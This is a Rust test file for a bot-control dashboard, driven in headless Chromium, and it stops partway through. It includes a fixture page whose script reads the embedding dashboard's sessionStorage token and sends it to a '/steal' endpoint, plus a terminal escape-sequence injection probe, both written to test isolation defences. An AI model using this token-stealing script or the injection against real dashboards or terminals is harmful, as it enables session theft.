//! The web dashboard end to end in headless Chromium (Debian's package), driven over the
//! DevTools protocol: sign in, a bot's real screen reaches `connected`, take control, upload a
//! file and see it in the Files window, the bot's commands appear in Activity without a reload,
//! "Stop the bot first" and the waiting-for-takeover highlight. Screenshots of every step go to
//! `target/dashboard-artifacts/`. The Terminal window runs against a docker computer, whose
//! shell is real (host computers never expose one). Screen isolation: a bot serving its own page
//! on its gateway port never has it shown, and a script inside a screen frame reaches neither
//! the dashboard's token nor the API. Computer maintenance: the background pill with the live
//! stage, the maintenance dialog, the interrupted dialog's explicit release, Update and Recover.

mod common;
mod docker_support;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use base64::Engine;
use common::{Backend, TestServer};
use futures_util::{SinkExt, StreamExt};
use serde_json::{Value, json};
use tokio_tungstenite::tungstenite::Message;

type Socket =
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

/// The browser tests run one at a time: the docker test's computer brings up a network
/// interface on this host, and a Chromium that sees the host's network change aborts the
/// requests it has in flight (`net::ERR_NETWORK_CHANGED`), which would fail another test's
/// screen for reasons of the test machine, not of the product.
static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// Headless Chromium; killed (by its own pid) when dropped.
struct Browser {
    child: Child,
    _profile: tempfile::TempDir,
    port: u16,
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn chromium() -> Option<&'static str> {
    ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
        .into_iter()
        .find(|p| Path::new(p).exists())
}

impl Browser {
    async fn launch(bin: &str) -> Browser {
        let profile = tempfile::tempdir().unwrap();
        let child = Command::new(bin)
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
                "--no-default-browser-check",
                "--hide-scrollbars",
                "--window-size=1400,1000",
                "--remote-debugging-port=0",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg("about:blank")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start chromium");
        let port_file = profile.path().join("DevToolsActivePort");
        let deadline = Instant::now() + Duration::from_secs(30);
        let port = loop {
            if let Ok(text) = std::fs::read_to_string(&port_file)
                && let Some(port) = text.lines().next().and_then(|l| l.trim().parse().ok())
            {
                break port;
            }
            assert!(
                Instant::now() < deadline,
                "chromium wrote no DevToolsActivePort"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        };
        Browser {
            child,
            _profile: profile,
            port,
        }
    }

    /// A DevTools session on the first page.
    async fn page(&self) -> Cdp {
        let http = reqwest::Client::new();
        let deadline = Instant::now() + Duration::from_secs(20);
        let url = loop {
            let list: Value = match http
                .get(format!("http://127.0.0.1:{}/json/list", self.port))
                .send()
                .await
            {
                Ok(r) => r.json().await.unwrap_or(Value::Null),
                Err(_) => Value::Null,
            };
            let page = list
                .as_array()
                .and_then(|l| l.iter().find(|t| t["type"] == "page"))
                .and_then(|t| t["webSocketDebuggerUrl"].as_str().map(str::to_owned));
            if let Some(url) = page {
                break url;
            }
            assert!(Instant::now() < deadline, "chromium shows no page target");
            tokio::time::sleep(Duration::from_millis(200)).await;
        };
        let (ws, _) = tokio_tungstenite::connect_async(url).await.unwrap();
        let mut cdp = Cdp {
            ws,
            id: 0,
            logs: Vec::new(),
            frames: Vec::new(),
            contexts: Vec::new(),
            shots: artifacts(),
        };
        cdp.call("Page.enable", json!({})).await;
        cdp.call("Runtime.enable", json!({})).await;
        cdp.call("Log.enable", json!({})).await;
        cdp
    }
}

fn artifacts() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/dashboard-artifacts");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A DevTools protocol session on one page.
struct Cdp {
    ws: Socket,
    id: u64,
    /// Console messages, exceptions and log entries (CSP violations), for failure reports.
    logs: Vec<String>,
    /// Out-of-process frames attached to this session (after `Target.setAutoAttach`):
    /// (target id, session id).
    frames: Vec<(String, String)>,
    /// Page-world script contexts of in-process frames: (frame id, context id).
    contexts: Vec<(String, i64)>,
    shots: PathBuf,
}

/// Where a frame's own page scripts run: an out-of-process frame's session, or an in-process
/// frame's context.
enum FrameWorld {
    Session(String),
    Context(i64),
}

impl Cdp {
    async fn call(&mut self, method: &str, params: Value) -> Value {
        self.call_on(None, method, params).await
    }

    /// A call on the page (`session` = `None`) or on an attached frame's session.
    async fn call_on(&mut self, session: Option<&str>, method: &str, params: Value) -> Value {
        self.id += 1;
        let id = self.id;
        let mut msg = json!({ "id": id, "method": method, "params": params });
        if let Some(session) = session {
            msg["sessionId"] = json!(session);
        }
        let msg = msg.to_string();
        self.ws.send(Message::text(msg)).await.unwrap();
        loop {
            let frame = tokio::time::timeout(Duration::from_secs(60), self.ws.next())
                .await
                .unwrap_or_else(|_| panic!("no answer to {method}"))
                .expect("devtools socket open")
                .unwrap();
            let Message::Text(text) = frame else { continue };
            let v: Value = serde_json::from_str(text.as_str()).unwrap();
            if v["id"] == id {
                if let Some(err) = v.get("error") {
                    panic!("{method} failed: {err}");
                }
                return v["result"].clone();
            }
            self.note(&v);
        }
    }

    fn note(&mut self, v: &Value) {
        let p = &v["params"];
        match v["method"].as_str() {
            Some("Runtime.consoleAPICalled") => {
                let args: Vec<String> = p["args"]
                    .as_array()
                    .map(|a| a.iter().map(|x| x["value"].to_string()).collect::<Vec<_>>())
                    .unwrap_or_default();
                self.logs
                    .push(format!("console.{}: {}", p["type"], args.join(" ")));
            }
            Some("Runtime.exceptionThrown") => self.logs.push(format!(
                "exception: {}",
                p["exceptionDetails"]["exception"]["description"]
            )),
            Some("Log.entryAdded") => self.logs.push(format!(
                "log {}: {}",
                p["entry"]["level"], p["entry"]["text"]
            )),
            Some("Runtime.executionContextCreated")
                if v.get("sessionId").is_none() && p["context"]["auxData"]["isDefault"] == true =>
            {
                self.contexts.push((
                    p["context"]["auxData"]["frameId"]
                        .as_str()
                        .unwrap_or_default()
                        .into(),
                    p["context"]["id"].as_i64().unwrap_or_default(),
                ));
            }
            Some("Target.attachedToTarget") if p["targetInfo"]["type"] == "iframe" => {
                self.frames.push((
                    p["targetInfo"]["targetId"]
                        .as_str()
                        .unwrap_or_default()
                        .into(),
                    p["sessionId"].as_str().unwrap_or_default().into(),
                ));
            }
            _ => {}
        }
    }

    /// Evaluate an expression in the page (promises awaited); its JSON value.
    async fn eval(&mut self, expr: &str) -> Value {
        let r = self
            .call(
                "Runtime.evaluate",
                json!({ "expression": expr, "returnByValue": true, "awaitPromise": true }),
            )
            .await;
        if let Some(ex) = r.get("exceptionDetails") {
            panic!("`{expr}` threw: {ex}");
        }
        r["result"]["value"].clone()
    }

    /// Evaluate an expression in a frame's own page world; its JSON value.
    async fn eval_in(&mut self, frame: &FrameWorld, expr: &str) -> Value {
        let mut params = json!({ "expression": expr, "returnByValue": true, "awaitPromise": true });
        let session = match frame {
            FrameWorld::Session(s) => Some(s.as_str()),
            FrameWorld::Context(id) => {
                params["contextId"] = json!(id);
                None
            }
        };
        let r = self.call_on(session, "Runtime.evaluate", params).await;
        if let Some(ex) = r.get("exceptionDetails") {
            panic!("`{expr}` threw in the frame: {ex}");
        }
        r["result"]["value"].clone()
    }

    /// The newest frame whose URL contains `part`: out of process (sandboxed frames run in a
    /// process of their own) or, should a frame share the dashboard's origin, in process.
    async fn frame_world(&mut self, part: &str) -> FrameWorld {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let targets = self.call("Target.getTargets", json!({})).await;
            let remote = targets["targetInfos"]
                .as_array()
                .into_iter()
                .flatten()
                .filter(|t| t["type"] == "iframe")
                .filter(|t| t["url"].as_str().is_some_and(|u| u.contains(part)))
                .filter_map(|t| {
                    let id = t["targetId"].as_str()?;
                    self.frames
                        .iter()
                        .rev()
                        .find(|(target, _)| target == id)
                        .map(|(_, session)| session.clone())
                })
                .next_back();
            if let Some(session) = remote {
                return FrameWorld::Session(session);
            }
            let tree = self.call("Page.getFrameTree", json!({})).await;
            let mut stack = vec![tree["frameTree"].clone()];
            let mut local = None;
            while let Some(node) = stack.pop() {
                let frame = &node["frame"];
                if frame["parentId"].is_string()
                    && frame["url"].as_str().is_some_and(|u| u.contains(part))
                {
                    let id = frame["id"].as_str().unwrap_or_default();
                    local = self
                        .contexts
                        .iter()
                        .rev()
                        .find(|(f, _)| f == id)
                        .map(|(_, c)| *c)
                        .or(local);
                }
                stack.extend(
                    node["childFrames"]
                        .as_array()
                        .into_iter()
                        .flatten()
                        .cloned(),
                );
            }
            if let Some(context) = local {
                return FrameWorld::Context(context);
            }
            assert!(Instant::now() < deadline, "no frame at {part}");
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }

    async fn shot(&mut self, name: &str) {
        let r = self
            .call("Page.captureScreenshot", json!({ "format": "png" }))
            .await;
        let png = base64::engine::general_purpose::STANDARD
            .decode(r["data"].as_str().unwrap())
            .unwrap();
        std::fs::write(self.shots.join(format!("{name}.png")), png).unwrap();
    }

    /// Wait until `expr` is truthy; on timeout save a screenshot and fail with the page's text
    /// and what the console said.
    async fn wait_for(&mut self, what: &str, expr: &str, limit: Duration) -> Value {
        let deadline = Instant::now() + limit;
        loop {
            let v = self.eval(expr).await;
            if !(v.is_null() || v == json!(false) || v == json!("") || v == json!(0)) {
                return v;
            }
            if Instant::now() > deadline {
                self.shot(&format!("timeout-{}", what.replace(' ', "-")))
                    .await;
                let text = self.eval("document.body.innerText").await;
                panic!(
                    "timed out waiting for {what}\npage:\n{}\nconsole:\n{}",
                    text.as_str().unwrap_or_default(),
                    self.logs.join("\n")
                );
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }

    /// Wait until the element at `selector` has `data-<key>` equal to `value`.
    async fn wait_data(
        &mut self,
        what: &str,
        selector: &str,
        key: &str,
        value: &str,
        limit: Duration,
    ) {
        let expr = format!("document.querySelector('{selector}')?.dataset.{key} === '{value}'");
        self.wait_for(what, &expr, limit).await;
    }

    /// Wait until an element matches `selector`.
    async fn wait_present(&mut self, what: &str, selector: &str, limit: Duration) {
        let expr = format!("!!document.querySelector('{selector}')");
        self.wait_for(what, &expr, limit).await;
    }

    /// Wait until the text of the element at `selector` contains `needle`.
    async fn wait_text(&mut self, what: &str, selector: &str, needle: &str, limit: Duration) {
        let expr = format!(
            "(document.querySelector('{selector}')?.textContent || '').includes({})",
            serde_json::to_string(needle).unwrap()
        );
        self.wait_for(what, &expr, limit).await;
    }

    async fn click(&mut self, selector: &str) {
        let found = self
            .eval(&format!(
                "(() => {{ const b = document.querySelector({sel}); if (!b) return false; b.click(); return true; }})()",
                sel = json!(selector)
            ))
            .await;
        assert_eq!(found, json!(true), "nothing to click at {selector}");
    }

    /// Opens the dashboard at `base` and signs in with `token`.
    async fn sign_in(&mut self, base: &str, token: &str) {
        self.call("Page.navigate", json!({ "url": format!("{base}/") }))
            .await;
        self.wait_for(
            "sign-in form",
            "!!document.getElementById('token') && !document.getElementById('sign-in').hidden",
            Duration::from_secs(60),
        )
        .await;
        self.eval(&format!(
            "document.getElementById('token').value = {}; document.getElementById('sign-in-form').requestSubmit(); true",
            json!(token)
        ))
        .await;
    }

    /// Types into the focused element as a keyboard would (`\r` is Enter).
    async fn type_keys(&mut self, text: &str) {
        for ch in text.chars() {
            let key = if ch == '\r' {
                json!({ "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": "\r" })
            } else {
                let s = ch.to_string();
                json!({ "key": s, "text": s, "unmodifiedText": s })
            };
            let mut down = key.clone();
            down["type"] = json!("keyDown");
            self.call("Input.dispatchKeyEvent", down).await;
            let mut up = key;
            up["type"] = json!("keyUp");
            up.as_object_mut().unwrap().remove("text");
            self.call("Input.dispatchKeyEvent", up).await;
        }
    }

    async fn set_files(&mut self, selector: &str, file: &Path) {
        let doc = self.call("DOM.getDocument", json!({})).await;
        let node = self
            .call(
                "DOM.querySelector",
                json!({ "nodeId": doc["root"]["nodeId"], "selector": selector }),
            )
            .await;
        self.call(
            "DOM.setFileInputFiles",
            json!({ "nodeId": node["nodeId"], "files": [file.display().to_string()] }),
        )
        .await;
    }
}

/// Stops the screen gateway (websockify and its VNC servers) of this server's host desktops,
/// as a crash would.
fn stop_gateway(s: &TestServer) {
    let prefix = format!("{}/", s.app.config.data_dir.join("run").display());
    let script = format!(
        r#"want="RAKAZO_DESKTOP_TAG={prefix}"
for e in /proc/[0-9]*/environ; do
  p=${{e#/proc/}}; p=${{p%/environ}}
  while IFS= read -r -d '' line; do
    case "$line" in "$want"*/gateway) kill -KILL "$p" 2>/dev/null; break ;; esac
  done 2>/dev/null < "$e"
done
exit 0"#
    );
    assert!(
        Command::new("bash")
            .arg("-c")
            .arg(script)
            .status()
            .unwrap()
            .success()
    );
}

#[actix_rt::test]
async fn dashboard_end_to_end_in_headless_chromium() {
    let Some(bin) = chromium() else {
        common::gate::missing("chromium", common::gate::CHROMIUM);
        return;
    };
    let _alone = ONE_AT_A_TIME.lock().await;
    let s = TestServer::start(
        Backend::Sqlite,
        &[("SANDBOX_PROVIDER", "desktop"), ("RAKAZO_ENV", "test")],
    )
    .await
    .unwrap();
    let (_, bots) = s.space_with_bots(1, "team").await;
    let bot = bots[0].clone();
    let card = format!("[data-bot=\"{bot}\"]");

    // The page is served with its policy and without caching.
    let page = s.http.get(format!("{}/", s.base)).send().await.unwrap();
    assert_eq!(page.headers()["cache-control"], "no-cache");
    let csp = page.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("frame-src 'self'") && csp.contains("script-src 'self'"));
    let js = s
        .http
        .get(format!("{}/assets/app.js", s.base))
        .send()
        .await
        .unwrap();
    assert!(
        js.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/javascript")
    );

    let browser = Browser::launch(bin).await;
    let mut cdp = browser.page().await;
    let long = Duration::from_secs(60);

    // 1. Sign in with the API token.
    cdp.call("Page.navigate", json!({ "url": format!("{}/", s.base) }))
        .await;
    cdp.wait_for(
        "sign-in form",
        "!!document.getElementById('token') && !document.getElementById('sign-in').hidden",
        long,
    )
    .await;
    cdp.shot("01-sign-in").await;
    cdp.eval(&format!(
        "document.getElementById('token').value = {}; document.getElementById('sign-in-form').requestSubmit(); true",
        json!(s.operator_token)
    ))
    .await;

    // 2. The bot's real screen reaches `connected` through the proxy and the reporter.
    cdp.wait_for(
        "live events",
        "document.getElementById('live').dataset.state === 'live'",
        long,
    )
    .await;
    cdp.wait_data(
        "screen connected",
        &format!("{card} .stage"),
        "screen",
        "connected",
        long,
    )
    .await;
    // The dock's buttons sit below the screen, clear of the bot's window and its title bar.
    let clear = cdp
        .eval(&format!(
            "(() => {{ const s = document.querySelector('{card} .stage').getBoundingClientRect(); \
             return [...document.querySelectorAll('{card} .dock-bar button')].every(b => b.getBoundingClientRect().top >= s.bottom); }})()"
        ))
        .await;
    assert_eq!(
        clear,
        json!(true),
        "the dock's buttons do not cover the screen"
    );
    tokio::time::sleep(Duration::from_millis(800)).await;
    cdp.shot("02-screen-connected").await;

    // 3. Take control: the frame switches to the control capability and connects again.
    cdp.click(&format!("{card} [data-action=take]")).await;
    cdp.wait_data("control", &card, "control", "mine", long)
        .await;
    cdp.wait_data(
        "control screen connected",
        &format!("{card} .stage"),
        "screen",
        "connected",
        long,
    )
    .await;
    cdp.shot("03-control").await;

    // 4. Upload a file through the Files window and see it listed and previewed.
    cdp.click(&format!("{card} [data-dock=files]")).await;
    cdp.wait_for(
        "files window",
        &format!(
            "!document.querySelector('{card} [data-window=files]').hidden && document.querySelector('{card} [data-window=files]').dataset.live === 'true'"
        ),
        long,
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("hello-dashboard.txt");
    std::fs::write(&file, "hello from the dashboard test\n").unwrap();
    cdp.set_files(&format!("{card} [data-role=upload]"), &file)
        .await;
    let entry = format!("{card} [data-entry$=\"hello-dashboard.txt\"]");
    cdp.wait_present("uploaded file listed", &entry, long).await;
    cdp.click(&entry).await;
    cdp.wait_text(
        "preview",
        &format!("{card} [data-role=text]"),
        "hello from the dashboard test",
        long,
    )
    .await;
    cdp.shot("04-upload-in-files").await;

    // 5. The bot runs a command (RPC, as the bot): it appears in Activity without a reload.
    let bot_token = s.ok("token.createForBot", json!({ "botId": bot })).await["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let started = s
        .call_as(&bot_token, "run.start", json!({ "botId": bot }))
        .await
        .expect("the bot starts a run while a person holds control");
    let run = started["run"]["id"].as_str().unwrap().to_owned();
    let fence = started["lease"]["fence"].as_i64().unwrap();
    let marker = format!("dashboard-activity-{}", std::process::id());
    s.call_as(
        &bot_token,
        "computer.exec",
        json!({ "runId": run, "fence": fence, "command": format!("echo {marker}") }),
    )
    .await
    .expect("exec");
    cdp.wait_for(
        "activity",
        &format!(
            "(document.querySelector('{card} [data-role=activity]')?.innerText || '').includes({})",
            json!(marker)
        ),
        long,
    )
    .await;
    cdp.shot("05-activity-live").await;

    // A folder larger than a page comes a page at a time: the next page from where the first
    // ended, and back.
    let made = s
        .call_as(
            &bot_token,
            "computer.exec",
            json!({ "runId": run, "fence": fence, "cwd": "uploads",
                    "command": "mkdir many && cd many && seq -f f%05.0f 0 5000 | xargs touch" }),
        )
        .await
        .expect("exec");
    assert_eq!(made["exitCode"], 0, "{made}");
    let many = format!("{card} [data-entry$=\"uploads/many\"]");
    cdp.wait_present("large folder", &many, long).await;
    cdp.click(&many).await;
    let more = format!("{card} [data-role=more]");
    cdp.wait_text(
        "first page",
        &more,
        "5000 of 5001 entries by name, the first.",
        long,
    )
    .await;
    cdp.wait_present(
        "first entry",
        &format!("{card} [data-entry$=\"many/f00000\"]"),
        long,
    )
    .await;
    cdp.click(&format!("{card} [data-action=next-page]")).await;
    cdp.wait_text(
        "next page",
        &more,
        "1 of 5001 entries by name, from f05000.",
        long,
    )
    .await;
    cdp.wait_present(
        "last entry",
        &format!("{card} [data-entry$=\"many/f05000\"]"),
        long,
    )
    .await;
    cdp.click(&format!("{card} [data-action=first-page]")).await;
    cdp.wait_text("first page again", &more, "the first.", long)
        .await;

    // 6. Release, then taking control while the bot runs says "Stop the bot first".
    cdp.click(&format!("{card} [data-action=release]")).await;
    cdp.wait_data("released", &card, "control", "none", long)
        .await;
    cdp.wait_data(
        "view screen after release",
        &format!("{card} .stage"),
        "screen",
        "connected",
        long,
    )
    .await;
    cdp.click(&format!("{card} [data-action=take]")).await;
    cdp.wait_text(
        "stop the bot first",
        &format!("{card} .notice"),
        "Stop the bot first",
        long,
    )
    .await;
    cdp.shot("06-stop-bot-first").await;

    // 7. The bot asks for takeover: its card is highlighted live, and control is granted.
    s.call_as(
        &bot_token,
        "run.requestTakeover",
        json!({ "runId": run, "fence": fence }),
    )
    .await
    .expect("request takeover");
    cdp.wait_for(
        "waiting highlight",
        &format!("document.querySelector('{card}').classList.contains('waiting')"),
        long,
    )
    .await;
    cdp.shot("07-waiting-takeover").await;
    cdp.click(&format!("{card} [data-action=take]")).await;
    cdp.wait_data(
        "control after takeover request",
        &card,
        "control",
        "mine",
        long,
    )
    .await;

    cdp.wait_data(
        "control screen after takeover",
        &format!("{card} .stage"),
        "screen",
        "connected",
        long,
    )
    .await;

    // A reload restores what happened before it: the waiting run and our control.
    cdp.call("Page.reload", json!({})).await;
    cdp.wait_for(
        "control restored after reload",
        &format!(
            "document.querySelector('{card}')?.dataset.control === 'mine' && document.querySelector('{card}').classList.contains('waiting') && document.querySelector('{card} .stage')?.dataset.screen === 'connected'"
        ),
        long,
    )
    .await;
    cdp.click(&format!("{card} [data-dock=browser]")).await;
    cdp.shot("08-taken-over-dock-hidden").await;

    // The computer's screen gateway stops: the live screen gives way to a human reason and
    // Retry, and Retry against the dead gateway says so within the watchdog's 15 seconds.
    stop_gateway(&s);
    cdp.wait_for(
        "reason after the gateway stopped",
        &format!(
            "document.querySelector('{card} .stage').dataset.screen !== 'connected' && !!document.querySelector('{card} [data-action=retry]')"
        ),
        Duration::from_secs(15),
    )
    .await;
    let retried = Instant::now();
    cdp.click(&format!("{card} [data-action=retry]")).await;
    let reason = cdp
        .wait_for(
            "reason after retry",
            &format!(
                "document.querySelector('{card} .stage').dataset.screen === 'failed' && !!document.querySelector('{card} [data-action=retry]') && document.querySelector('{card} [data-role=screen-message]').textContent"
            ),
            Duration::from_secs(15),
        )
        .await;
    assert_eq!(reason, json!("The screen did not respond."));
    assert!(retried.elapsed() < Duration::from_secs(15));
    cdp.shot("08b-gateway-stopped").await;

    // 8. Refusals: a refused capability shows the fixed reason and Retry in place of the
    // screen; a frame that never reports past `loading` fails after 15 seconds.
    cdp.eval(
        "(async () => {
            const { Screen } = await import('/assets/screen.js');
            for (const [id, url] of [['refused', '/screen/not-a-capability/vnc.html'], ['silent', '/internal/health']]) {
                const stage = document.createElement('div');
                stage.className = 'stage';
                stage.id = 'probe-' + id;
                stage.style.width = '400px';
                document.getElementById('bot-list').append(stage);
                new Screen(stage, 'probe', async () => url).open();
            }
            return true;
        })()",
    )
    .await;
    let refused = cdp
        .wait_for(
            "refusal reason",
            "document.getElementById('probe-refused').dataset.screen === 'failed' && document.querySelector('#probe-refused [data-role=screen-message]').textContent",
            long,
        )
        .await;
    assert_eq!(refused, json!("The screen did not respond."));
    assert_eq!(
        cdp.eval("!!document.querySelector('#probe-refused [data-action=retry]')")
            .await,
        json!(true)
    );
    let began = Instant::now();
    cdp.wait_for(
        "watchdog",
        "document.getElementById('probe-silent').dataset.screen === 'failed' && !!document.querySelector('#probe-silent [data-action=retry]')",
        Duration::from_secs(25),
    )
    .await;
    assert!(began.elapsed() >= Duration::from_secs(10));
    cdp.eval("document.getElementById('probe-silent').scrollIntoView(); true")
        .await;
    cdp.shot("09-refused-and-watchdog").await;

    let problems: Vec<&String> = cdp
        .logs
        .iter()
        .filter(|l| l.starts_with("exception") || l.contains("Content Security Policy"))
        .collect();
    assert!(problems.is_empty(), "page problems: {problems:?}");
    drop(browser);
}

/// With the computer stopped, the Files window lists and previews the stored workspace and
/// download is refused with a clear message (on the `fake` provider, whose computers have no
/// live screens: the screen shows its reason instead of a blank frame).
#[actix_rt::test]
async fn stopped_computer_files_in_headless_chromium() {
    let Some(bin) = chromium() else {
        common::gate::missing("chromium", common::gate::CHROMIUM);
        return;
    };
    let _alone = ONE_AT_A_TIME.lock().await;
    let s = TestServer::start(Backend::Sqlite, &[]).await.unwrap();
    let (_, bots) = s.space_with_bots(1, "team").await;
    let bot = bots[0].clone();
    let card = format!("[data-bot=\"{bot}\"]");
    let uploads = format!("bots/{bot}/uploads");
    // Boot the computer, leave a file in the bot's folder, stop the computer.
    let (run, fence) = s.start_run(&bot).await;
    s.exec(&run, fence, "true").await.expect("exec");
    s.ok(
        "run.finish",
        json!({ "runId": run, "fence": fence, "outcome": "completed" }),
    )
    .await;
    let control = s.ok("computer.takeControl", json!({ "botId": bot })).await;
    let up = s
        .ok(
            "files.upload",
            json!({ "botId": bot, "name": "kept.txt", "contentBase64": "a2VwdCBhZnRlciBzdG9wCg==" }),
        )
        .await;
    assert!(up["path"].as_str().unwrap().ends_with("uploads/kept.txt"));
    s.ok(
        "computer.releaseControl",
        json!({ "botId": bot, "fence": control["fence"] }),
    )
    .await;
    let computer = s.ok("computer.forBot", json!({ "botId": bot })).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    s.ok("computer.stop", json!({ "computerId": computer }))
        .await;

    let browser = Browser::launch(bin).await;
    let mut cdp = browser.page().await;
    let long = Duration::from_secs(60);
    cdp.sign_in(&s.base, &s.operator_token).await;
    cdp.wait_present("bot card", &card, long).await;
    cdp.click(&format!("{card} [data-dock=files]")).await;
    cdp.wait_for(
        "stored listing",
        &format!(
            "document.querySelector('{card} [data-window=files]').dataset.live === 'false' && !!document.querySelector('{card} [data-entry=bots]')"
        ),
        long,
    )
    .await;
    for dir in ["bots".to_owned(), format!("bots/{bot}"), uploads.clone()] {
        let sel = format!("{card} [data-entry=\"{dir}\"]");
        cdp.wait_present("folder", &sel, long).await;
        cdp.click(&sel).await;
    }
    let entry = format!("{card} [data-entry=\"{uploads}/kept.txt\"]");
    cdp.wait_present("stored file", &entry, long).await;
    cdp.click(&entry).await;
    cdp.wait_text(
        "stored preview",
        &format!("{card} [data-role=text]"),
        "kept after stop",
        long,
    )
    .await;
    cdp.click(&format!("{card} [data-action=download]")).await;
    cdp.wait_text(
        "download refused",
        &format!("{card} [data-role=files-message]"),
        "Download needs a running computer",
        long,
    )
    .await;
    cdp.shot("10-stopped-computer-files").await;
    drop(browser);
}

/// The Terminal window against a docker computer (real screen, real shell): "Open shell" takes
/// control and connects, typed commands run in the computer, the shell stays while the window
/// is hidden, a shell that ends is replaced by a fresh one, and releasing control ends it.
#[actix_rt::test]
async fn dashboard_terminal_on_a_docker_computer() {
    let Some(bin) = chromium() else {
        common::gate::missing("chromium", common::gate::CHROMIUM);
        return;
    };
    let _alone = ONE_AT_A_TIME.lock().await;
    if !docker_support::docker_ready() {
        return;
    }
    let sup = docker_support::TestSupervisor::start(rakazo::config::DockerNetwork::Bridge);
    let s = TestServer::docker(&sup.url, &sup.token).await;
    let (space, bots) = s.space_with_bots(1, "team").await;
    let bot = bots[0].clone();
    let card = format!("[data-bot=\"{bot}\"]");
    let terminal = format!("{card} [data-window=terminal]");
    // term.js draws spaces as no-break spaces.
    let screen_text = format!(
        "(document.querySelector('{card} [data-role=terminal]')?.innerText || '').replaceAll('\\u00a0', ' ')"
    );

    let browser = Browser::launch(bin).await;
    let mut cdp = browser.page().await;
    let long = Duration::from_secs(90);
    cdp.sign_in(&s.base, &s.operator_token).await;
    cdp.wait_data(
        "docker screen connected",
        &format!("{card} .stage"),
        "screen",
        "connected",
        long,
    )
    .await;
    let _cleanup = docker_support::RemoveOnDrop(docker_support::space_container(&space));

    // Without control the window offers "Open shell", which takes control and connects.
    cdp.click(&format!("{card} [data-dock=terminal]")).await;
    cdp.wait_for(
        "open shell offered",
        &format!("!document.querySelector('{card} [data-action=open-shell]').hidden"),
        long,
    )
    .await;
    cdp.shot("11-terminal-open-shell").await;
    cdp.click(&format!("{card} [data-action=open-shell]")).await;
    cdp.wait_for(
        "shell connected",
        &format!("document.querySelector('{terminal}').dataset.shell === 'connected' && document.querySelector('{card}').dataset.control === 'mine'"),
        long,
    )
    .await;
    cdp.wait_for("prompt", &format!("{screen_text}.includes('$')"), long)
        .await;
    cdp.click(&format!("{card} [data-role=terminal]")).await;
    cdp.type_keys("echo term-$((6*7)) $(id -u)\r").await;
    cdp.wait_for(
        "command output",
        &format!("{screen_text}.includes('term-42 1000')"),
        long,
    )
    .await;
    cdp.shot("12-terminal-output").await;

    // Hidden behind the browser button and shown again: the same shell, still connected.
    cdp.click(&format!("{card} [data-dock=browser]")).await;
    cdp.click(&format!("{card} [data-dock=browser]")).await;
    assert_eq!(
        cdp.eval(&format!(
            "document.querySelector('{terminal}').dataset.shell"
        ))
        .await,
        json!("connected")
    );

    // The shell ends: a fresh one takes its place.
    cdp.click(&format!("{card} [data-role=terminal]")).await;
    cdp.type_keys("exit\r").await;
    cdp.wait_for(
        "fresh shell",
        &format!("{screen_text}.includes('fresh shell') && document.querySelector('{terminal}').dataset.shell === 'connected'"),
        long,
    )
    .await;
    cdp.click(&format!("{card} [data-role=terminal]")).await;
    cdp.type_keys("echo again-$((1+1))\r").await;
    cdp.wait_for(
        "output of the fresh shell",
        &format!("{screen_text}.includes('again-2')"),
        long,
    )
    .await;
    // The bot prints a termcap query (`ESC P + q`) holding a line: term.js would answer it
    // with that line as typed input. The shell reads nothing (`\151` prints `i`, so only an
    // answer could show `inj`).
    cdp.click(&format!("{card} [data-role=terminal]")).await;
    cdp.type_keys(
        "t=$(tty); (sleep 1; printf '\\eP+q\\151nj\\r\\e\\\\' > $t) & read -t 4 -r got; echo \"re\"\"ad=[$got]\"\r",
    )
    .await;
    cdp.wait_for(
        "the read's end",
        &format!("{screen_text}.includes('read=[')"),
        long,
    )
    .await;
    let shown = cdp.eval(&screen_text).await;
    assert!(
        shown.as_str().unwrap().contains("read=[]") && !shown.as_str().unwrap().contains("inj"),
        "{shown}"
    );

    // Releasing control ends the shell and offers "Open shell" again.
    cdp.click(&format!("{card} [data-action=release]")).await;
    cdp.wait_for(
        "shell closed",
        &format!("document.querySelector('{terminal}').dataset.shell === 'closed' && !document.querySelector('{card} [data-action=open-shell]').hidden"),
        long,
    )
    .await;
    cdp.shot("13-terminal-after-release").await;
    let problems: Vec<&String> = cdp
        .logs
        .iter()
        .filter(|l| l.starts_with("exception") || l.contains("Content Security Policy"))
        .collect();
    assert!(problems.is_empty(), "page problems: {problems:?}");
    drop(browser);
}

/// What the bot's own servers saw: every request line, header and body, in order.
type Seen = std::sync::Arc<std::sync::Mutex<Vec<String>>>;

/// The page a bot serves from its gateway port in place of websockify: it would read the
/// viewer's token from the embedding dashboard and send it home.
const BOT_PAGE: &str = "<!doctype html><html><head><title>bot page</title><script>\
window.botPage = true;\
var t = ''; try { t = JSON.stringify(Object.entries(parent.sessionStorage)); } catch (e) { t = 'blocked'; }\
fetch('/steal?from=page&t=' + encodeURIComponent(t));\
</script></head><body>bot page</body></html>";

/// Evaluated in a screen frame: `complete noVNC true` when it holds the packaged viewer (its
/// control bar, no trace of the bot's page).
const VIEWER_CHECK: &str = "document.readyState + ' ' + (document.title.endsWith('noVNC') ? 'noVNC' : document.title) + ' ' + (!!document.getElementById('noVNC_control_bar') && window.botPage === undefined)";

/// A server run by the bot on `listener`: records every request and answers [`BOT_PAGE`].
fn bot_server(listener: std::net::TcpListener, seen: Seen) {
